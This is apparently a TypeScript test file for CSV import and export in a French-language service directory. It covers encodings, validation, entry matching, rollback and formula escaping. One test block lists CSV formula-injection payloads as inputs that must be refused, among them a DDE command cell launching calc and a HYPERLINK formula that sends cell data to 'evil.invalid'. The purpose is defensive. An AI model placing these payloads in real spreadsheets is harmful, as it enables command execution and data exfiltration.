import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { In, Out } from '../../../shared/contract.ts'
import { csvLineLimit, type EntryDetails } from '../../../shared/directory/directory.contract.ts'
import { type CodeList, codesOf } from '../../../shared/vocab/code-list.ts'
import { newOpenVault, openVaultSide, type TestVault, testPassphrase } from '../../../tests/support/vault.ts'
import type { VaultContext } from '../../vault/handler.ts'
import { codedFields, tidyDetails } from '../entry.ts'
import { foldedName } from '../words.ts'
import { isFormula, mask, unmask } from './formulas.ts'
import { importPreview } from './import.ts'
import { previewCsv } from './preview.ts'

type Details = In<'directory.save'>['details']
type Preview = Out<'directory.previewCsv'>

const utf8 = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text)
const newId = (): string => crypto.randomUUID()

const look = (vault: TestVault, file: string | Uint8Array<ArrayBuffer>): Promise<Preview> =>
  vault.call('directory.previewCsv', {
    bytes: typeof file === 'string' ? utf8(file) : file,
    jobId: newId(),
  })
const take = (vault: TestVault, { preview }: Preview) =>
  vault.call('directory.importCsv', { preview, jobId: newId() })

async function entriesOf(vault: TestVault) {
  const { rows } = await vault.call('directory.search', {})
  return rows
}

async function add(vault: TestVault, details: Details): Promise<string> {
  const id = newId()
  await vault.call('directory.save', { id, details, seen: null })
  return id
}

/** Every problem as `line problem column`. */
const problemsOf = ({ lines }: Preview): string[] =>
  lines.flatMap(({ line, problems }) => problems.map(({ problem, column }) => `${line} ${problem} ${column}`))

describe('a sheet of services', () => {
  it('is looked at line by line, and nothing of it is kept before it is imported', async () => {
    const vault = await openVaultSide()
    const preview = await look(
      vault,
      'Organisme;Services;Régions;Langues;Vérifié le\n' +
        'Maison fictive;Hébergement sécuritaire|legal_aid;6;Français|english;2026-03-01\n' +
        'Clinique fictive;Plomberie;Montréal;;2026-13-01\n' +
        ';Aide alimentaire;;;\n',
    )
    expect(preview.counts).toEqual({ new: 1, update: 0, same: 0, problem: 2 })
    expect(preview.lines.map(({ line }) => line)).toEqual([3, 4, 2])
    expect(problemsOf(preview)).toEqual([
      '3 unknown_code services',
      '3 bad_date checkedOn',
      '4 missing_organisation organisation',
    ])
    expect(await entriesOf(vault)).toEqual([])
    expect(await take(vault, preview)).toEqual({ added: 1, changed: 0 })
    expect(await entriesOf(vault)).toMatchObject([
      {
        organisation: 'Maison fictive',
        services: ['legal_aid', 'safe_housing'],
        regions: ['06'],
        languages: ['english', 'french'],
        checkedOn: '2026-03-01',
        stale: false,
      },
    ])
  })

  it.each([
    [
      'commas and English headers',
      'Organization,Phone,E-mail\n"Maison, la seconde",+1 514 555-0100,a@b.ca\n',
    ],
    ['tabs', 'ORGANISME\tTELEPHONE\tCOURRIEL\r\nMaison, la seconde\t+1 514 555-0100\ta@b.ca'],
    [
      'the mark of Excel',
      '\ufeffOrganisme;Téléphone;Courriel\r\nMaison, la seconde;+1 514 555-0100;a@b.ca\r\n',
    ],
    [
      'Excel’s own delimiter line',
      'sep=;\r\nOrganisme;Téléphone;Courriel\r\nMaison, la seconde;+1 514 555-0100;a@b.ca',
    ],
    ['old line ends', 'Organisme;Téléphone;Courriel\rMaison, la seconde;+1 514 555-0100;a@b.ca\r'],
  ])('is read with %s', async (_, file) => {
    const vault = await openVaultSide()
    const preview = await look(vault, file)
    expect(preview).toMatchObject({ counts: { new: 1, problem: 0 }, unknownColumns: [] })
    await take(vault, preview)
    expect(await entriesOf(vault)).toMatchObject([
      { organisation: 'Maison, la seconde', phone: '+1 514 555-0100', email: 'a@b.ca' },
    ])
  })

  it.each([
    ['utf-16', 'utf16le', [0xff, 0xfe]],
    ['utf-16', 'utf16be', [0xfe, 0xff]],
    ['windows-1252', 'latin1', []],
    ['utf-8', 'utf8', []],
    ['utf-8', 'utf8', [0xef, 0xbb, 0xbf]],
  ] as const)('says that it is %s (%s)', async (encoding, how, mark) => {
    const vault = await openVaultSide()
    const text = 'Organisme;Note\nÉcole fictive;À l’été\n'.replace('’', how === 'latin1' ? '\u0092' : '’')
    const body = Buffer.from(text, how === 'utf16be' ? 'utf16le' : how)
    const preview = await look(
      vault,
      new Uint8Array([...mark, ...(how === 'utf16be' ? body.swap16() : body)]),
    )
    expect(preview.encoding).toBe(encoding)
    await take(vault, preview)
    expect(await entriesOf(vault)).toMatchObject([{ organisation: 'École fictive', note: 'À l’été' }])
  })

  it('names the line with bytes that mean nothing, and takes no other for it', async () => {
    const vault = await openVaultSide()
    const text = Buffer.from('Organisme\nÉcole fictive\nÉté fictif\nMaison de l’été\n', 'utf8')
    const hit = Buffer.concat([text, Buffer.from([0x4d, 0xe9, 0x0a])])
    const preview = await look(vault, new Uint8Array(hit))
    expect(problemsOf(preview)).toEqual(['5 undecodable organisation'])
    const windows = new Uint8Array(Buffer.from('Organisme\nÉcole\nBris\x81é\n', 'latin1'))
    expect(problemsOf(await look(vault, windows))).toEqual(['3 undecodable organisation'])
  })

  it.each([
    ['a workbook', Buffer.from('PK\x03\x04 and so on', 'latin1'), 'directory.csv_workbook'],
    ['an old workbook', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0]), 'directory.csv_workbook'],
    ['a picture', Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), 'directory.csv_not_text'],
    ['nothing', Buffer.alloc(0), 'directory.csv_no_header'],
    ['a letter', Buffer.from('Chère collègue,\nvoici la liste.\n'), 'directory.csv_no_header'],
    ['a sheet without its header', Buffer.from('Maison fictive;06\n'), 'directory.csv_no_header'],
  ])('is refused by name when it is %s', async (_, bytes, code) => {
    const vault = await openVaultSide()
    await expect(look(vault, new Uint8Array(bytes))).rejects.toThrow(code)
  })

  it('with a header alone has nothing to import', async () => {
    const vault = await openVaultSide()
    const preview = await look(vault, 'Organisme;Services\n;;\n\n')
    expect(preview).toMatchObject({ counts: { new: 0, update: 0, same: 0, problem: 0 }, lines: [] })
    expect(await take(vault, preview)).toEqual({ added: 0, changed: 0 })
  })

  it('says which columns mean nothing here, and which cells stand beyond the last', async () => {
    const vault = await openVaultSide()
    const preview = await look(vault, 'Organisme;Budget;Organisme\nMaison;12;x;Note sans guillemets\n')
    expect(preview.unknownColumns).toEqual(['Budget', 'Organisme'])
    expect(problemsOf(preview)).toEqual(['2 extra_cells '])
  })

  it.each([
    ['a quote that nothing closes', 'Organisme;Note\nA;x\nB;"sans fin\nC;y\n', ['3 quote_open ']],
    [
      'a quote that closes three lines on',
      'Organisme;Note\n"A;x\nB;y\nC";z\nD;w\n',
      ['2 line_break organisation'],
    ],
    ['a NUL', 'Organisme;Note\nA\0;x\n', ['2 control organisation']],
    ['a name as long as a page', `Organisme\n${'A'.repeat(201)}\n`, ['2 too_long organisation']],
    ['a note as long as a book', `Organisme;Note\nA;${'b'.repeat(100_000)}\n`, ['2 too_long note']],
    ['a day to come', 'Organisme;Vérifié le\nA;2026-03-03\n', ['2 future_date checkedOn']],
    ['a day in two readings', 'Organisme;Vérifié le\nA;03/04/2026\n', ['2 bad_date checkedOn']],
    ['two sectors', 'Organisme;Secteur\nA;community|health\n', ['2 one_term sector']],
    ['an id that is none', 'Organisme;Identifiant\nA;12\n', ['2 bad_id id']],
    ['a term that nobody has', 'Organisme;Services\nA;unheard_of\n', ['2 unknown_code services']],
    [
      'all that is wrong with it at once',
      'Organisme;Services;Langues;Vérifié le\nA;unheard_of|legal_aid;klingon;2026-13-01\n',
      ['2 bad_date checkedOn', '2 unknown_code services', '2 unknown_code languages'],
    ],
    [
      'the same line twice',
      'Organisme;Services\nMaison É;legal_aid\nmaison e;Aide et conseil juridiques\n',
      ['3 duplicate '],
    ],
  ])('names the line with %s', async (_, file, problems) => {
    const vault = await openVaultSide()
    const preview = await look(vault, file)
    expect(problemsOf(preview)).toEqual(problems)
  })

  it('of more than ten thousand lines is refused before any is looked at; ten thousand are taken in', async () => {
    const vault = await openVaultSide()
    const lines = Array.from({ length: csvLineLimit }, (_, n) => `Organisme fictif ${n};legal_aid;06`)
    const file = `Organisme;Services;Régions\n${lines.join('\n')}\n`
    await expect(look(vault, `${file}Un de trop;;\n`)).rejects.toThrow('directory.csv_too_many_lines')
    const preview = await look(vault, file)
    expect(preview.counts.new).toBe(csvLineLimit)
    expect(preview.lines).toHaveLength(500)
    expect(await take(vault, preview)).toEqual({ added: csvLineLimit, changed: 0 })
    const found = await vault.call('directory.search', { words: 'fictif 999', regions: ['06'] })
    expect([found.total, found.all]).toEqual([11, csvLineLimit])
    expect((await look(vault, file)).counts).toEqual({ new: 0, update: 0, same: csvLineLimit, problem: 0 })
    // Three readings of the longest file there is, on a machine that does other things too.
  }, 120_000)
})

describe('a sheet that meets what is here', () => {
  it('changes the entry with its id whatever its name is now, and only in the columns that it has', async () => {
    const vault = await openVaultSide()
    const id = await add(vault, { organisation: 'Ancien nom', phone: '514 555-0100', note: 'À garder' })
    const preview = await look(vault, `Identifiant;Organisme;Téléphone\n${id.toUpperCase()};Nouveau nom;\n`)
    expect(preview.counts.update).toBe(1)
    await take(vault, preview)
    expect(await vault.call('directory.get', { id })).toMatchObject({
      organisation: 'Nouveau nom',
      phone: '',
      note: 'À garder',
    })
  })

  it('knows an organisation again by its name, by what it offers when there are several, and asks otherwise', async () => {
    const vault = await openVaultSide()
    await add(vault, { organisation: 'Seule', services: ['legal_aid'] })
    await add(vault, { organisation: 'Double', services: ['legal_aid'] })
    await add(vault, { organisation: 'Double', services: ['food_aid'] })
    const preview = await look(
      vault,
      'Organisme;Services;Note\nSEULE;food_aid;a\nDouble;food_aid;b\nDouble;housing;c\nDouble;health_care;d\n',
    )
    expect(problemsOf(preview)).toEqual(['4 ambiguous organisation', '5 ambiguous organisation'])
    await take(vault, preview)
    const rows = await entriesOf(vault)
    expect(rows.map(({ organisation, services, note }) => [organisation, services[0], note])).toEqual([
      ['Double', 'legal_aid', ''],
      ['Double', 'food_aid', 'b'],
      ['SEULE', 'food_aid', 'a'],
    ])
  })

  it('is looked at again when the directory changed since, and imports nothing until then', async () => {
    const vault = await openVaultSide()
    const preview = await look(vault, 'Organisme\nMaison fictive\n')
    await add(vault, { organisation: 'Maison fictive' })
    await expect(take(vault, preview)).rejects.toThrow('directory.import_changed')
    expect(await entriesOf(vault)).toHaveLength(1)
    const again = await look(vault, 'Organisme\nMaison fictive\n')
    expect(again.counts).toMatchObject({ new: 0, same: 1 })
  })

  it('is forgotten once it was imported, once another is looked at and once the vault was locked', async () => {
    const vault = await openVaultSide()
    const first = await look(vault, 'Organisme\nUn\n')
    const second = await look(vault, 'Organisme\nDeux\n')
    await expect(take(vault, first)).rejects.toThrow('directory.csv_forgotten')
    await take(vault, second)
    await expect(take(vault, second)).rejects.toThrow('directory.csv_forgotten')
    const third = await look(vault, 'Organisme\nTrois\n')
    vault.close()
    await vault.call('vault.unlock', { folder: vault.folder, passphrase: testPassphrase })
    await expect(take(vault, third)).rejects.toThrow('directory.csv_forgotten')
    expect((await entriesOf(vault)).map(({ organisation }) => organisation)).toEqual(['Deux'])
  })

  it('leaves nothing behind when she stops it, whether it is being read or imported', async () => {
    const vault = await openVaultSide()
    const file = `Organisme\n${Array.from({ length: 5000 }, (_, n) => `Organisme fictif ${n}`).join('\n')}\n`
    const jobId = newId()
    const reading = vault.call('directory.previewCsv', { bytes: utf8(file), jobId })
    await vault.call('app.cancelJob', { jobId })
    await expect(reading).rejects.toThrow('app.cancelled')
    const { preview } = await look(vault, file)
    const importing = vault.call('directory.importCsv', { preview, jobId })
    await vault.call('app.cancelJob', { jobId })
    await expect(importing).rejects.toThrow('app.cancelled')
    expect(await entriesOf(vault)).toEqual([])
    // What was stopped may be started again.
    expect((await vault.call('directory.importCsv', { preview, jobId })).added).toBe(5000)
  })
})

describe('an import that is cut off half-way', () => {
  it('leaves nothing behind, and can be done again', async () => {
    const vault = await newOpenVault()
    const context = { vault, now: Date.now, today: () => '2026-03-02' } as VaultContext
    const job = { signal: new AbortController().signal, onProgress: () => undefined }
    const lines = Array.from({ length: 300 }, (_, n) => `Organisme fictif ${n}`)
    const { preview } = await previewCsv(context, utf8(`Organisme\n${lines.join('\n')}\n`), job)
    const rows = (table: string) =>
      vault.reader.get<{ n: number }>(`SELECT count(*) AS n FROM ${table}`)?.n ?? -1
    const written = rows('journal')
    vault.writer.run(
      `CREATE TEMP TRIGGER cut BEFORE INSERT ON directory_entries WHEN (SELECT count(*) FROM directory_entries) = 150
       BEGIN SELECT RAISE(ABORT, 'cut'); END`,
    )
    await expect(importPreview(context, preview, job)).rejects.toThrow('cut')
    expect([rows('directory_entries'), rows('directory_search'), rows('journal') - written]).toEqual([
      0, 0, 0,
    ])
    vault.writer.run('DROP TRIGGER cut')
    expect(await importPreview(context, preview, job)).toEqual({ added: 300, changed: 0 })
    expect(rows('directory_entries')).toBe(300)
  })
})

describe('a formula in a sheet', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.invalid/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '+1+1',
    '-2+3',
    "-2+3+cmd|' /C calc'!A0",
    '＝1+1',
    '  =1+1',
  ])('is not taken in, whatever its column: %s', async (cell) => {
    const vault = await openVaultSide()
    const quotedCell = `"${cell.replaceAll('"', '""')}"`
    for (const column of ['Organisme', 'Note', 'Téléphone', 'Conditions', 'Services']) {
      const file =
        column === 'Organisme' ? `Organisme\n${quotedCell}\n` : `Organisme;${column}\nMaison;${quotedCell}\n`
      expect(problemsOf(await look(vault, file))[0], column).toMatch(/^2 formula /)
    }
  })

  it.each([
    ['phone', '+1 514 555-0100'],
    ['phone', '+1 (514) 555-0100 poste 12'],
    ['note', '- Apporter une pièce'],
    ['note', '1 + 1 = 2'],
    ['email', 'a@b.ca'],
  ])('is not seen where there is none (%s: %s)', (column, cell) => {
    expect(isFormula(column, cell)).toBe(false)
  })

  it('is behind an apostrophe on its way out, and comes back as it went', () => {
    fc.assert(
      fc.property(
        fc
          .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '＝', 'a', ' '))
          .map((letters) => letters.join('')),
        (cell) => {
          expect(mask(cell)).not.toMatch(/^[=+\-@\t\r＝]/)
          expect(unmask(mask(cell))).toBe(cell)
        },
      ),
    )
  })
})

const oneLine = fc
  .string({ unit: 'grapheme', maxLength: 60 })
  .map((text) => text.replace(/\p{Cc}|\ufffd/gu, ''))
  .filter((text) => text.length <= 200)
const nasty = fc.constantFrom(
  '=1+1',
  "'=1",
  '+1 514',
  '-',
  '- a',
  '@x',
  'a;b',
  'a,b',
  'a"b',
  '""',
  "'",
  'a|b',
  ' é ',
)
const shortText = fc.oneof(oneLine, nasty)
const someLines = fc.array(shortText, { maxLength: 4 }).map((parts) => parts.join('\n'))
const codesIn = (list: CodeList) => fc.uniqueArray(fc.constantFrom(...codesOf(list)), { maxLength: 5 })

/** An entry as somebody might write it, tidied as it is kept. */
const details: fc.Arbitrary<EntryDetails> = fc
  .record({
    organisation: shortText,
    sector: fc.option(fc.constantFrom(...codesOf(codedFields.sector))),
    services: codesIn(codedFields.services),
    regions: codesIn(codedFields.regions),
    languages: codesIn(codedFields.languages),
    conditions: someLines,
    capacity: fc.option(fc.constantFrom(...codesOf(codedFields.capacity))),
    hours: shortText,
    phone: shortText,
    email: shortText,
    website: shortText,
    contact: shortText,
    note: someLines,
    checkedOn: fc.constantFrom(null, '2026-03-02', '2020-02-29'),
  })
  .map((one) => tidyDetails(one))
  .filter(({ organisation }) => organisation !== '')

describe('a directory that goes out and comes back', () => {
  it('is the same, entry by entry and letter by letter, in another vault too', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(details, { minLength: 1, maxLength: 6 }), async (written) => {
        const vault = await openVaultSide()
        for (const one of written) await add(vault, one)
        const { bytes, name } = await vault.call('directory.csvFile', {})
        expect(name).toBe('ressources-2026-03-02.csv')
        const back = await look(vault, bytes)
        expect(problemsOf(back)).toEqual([])
        expect(back.counts).toEqual({ new: 0, update: 0, same: written.length, problem: 0 })

        const other = await openVaultSide()
        await take(other, await look(other, bytes))
        const plain = (rows: readonly EntryDetails[]) =>
          rows.map((row) => ({ ...row, version: null, author: null }))
        expect(plain(await entriesOf(other))).toEqual(plain(await entriesOf(vault)))
      }),
      { numRuns: 12 },
    )
  })

  it('holds no cell that a spreadsheet would work out', async () => {
    const vault = await openVaultSide()
    await add(vault, { organisation: '=cmd|calc', phone: '+15145550100', note: '@x\n=y', website: '-1' })
    const text = new TextDecoder().decode((await vault.call('directory.csvFile', {})).bytes)
    const cells = text.slice(text.indexOf('\r\n') + 2).split(';')
    expect(cells.filter((cell) => /^"?[=+\-@]/.test(cell))).toEqual([])
    expect(text).toContain(`"'=cmd|calc";`)
  })

  it('is led by the mark and the header that Excel wants, in French', async () => {
    const vault = await openVaultSide()
    const { bytes } = await vault.call('directory.csvFile', {})
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes)).toMatch(/^Organisme;Secteur;Services;.*;Identifiant\r\n$/)
  })

  it('is read back by its labels: no two terms of a list are written alike', () => {
    for (const list of Object.values(codedFields)) {
      const names = new Map<string, string>()
      for (const [code, term] of Object.entries(list)) {
        for (const name of [code, foldedName(term.fr), foldedName(term.en)]) {
          expect(names.get(name) ?? code, name).toBe(code)
          names.set(name, code)
        }
      }
    }
  })
})
